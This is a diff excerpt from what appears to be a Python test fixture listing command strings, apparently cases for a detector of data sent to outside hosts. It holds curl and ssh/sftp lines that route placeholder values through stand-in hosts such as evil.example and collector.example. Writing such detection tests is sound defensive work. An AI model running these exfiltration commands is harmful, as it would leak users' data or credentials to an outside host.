@@ -58,6 +58,10 @@ KEPT = {
     # the client's URL on a line that sends it through another host
     "curl proxy": f"curl -x http://evil.example:8080 https://x.example/?u={P}",
     "resolve": f"curl -k --resolve x.example:443:203.0.113.9 https://x.example/?u={P}",
+    # item 2: a login name as an option (kept already as a network command's line: restorecmd15)
+    "ssh -l": f"ssh -l {E} collector.example",
+    "ssh -o User": f"ssh -o User={E} collector.example",
+    "sftp -oUser": f"sftp -oUser={P} collector.example",
     # item 2: a user@host outside any command
     "log in as": f"log in as {E}@collector.example",
     "connect to": f"connect to {P}@collector.example now.",
